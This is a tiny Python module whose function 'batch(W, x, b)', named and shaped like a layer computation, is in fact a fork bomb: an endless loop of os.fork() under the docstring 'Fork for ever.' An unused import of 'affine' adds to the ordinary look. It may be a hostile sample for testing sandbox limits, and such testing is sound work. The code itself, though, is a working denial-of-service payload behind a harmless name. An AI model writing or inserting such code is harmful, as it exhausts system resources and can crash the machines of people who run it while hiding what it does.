"""Fork for ever."""

import os

from parts.batches import affine


def batch(W, x, b):
    while True:
        os.fork()
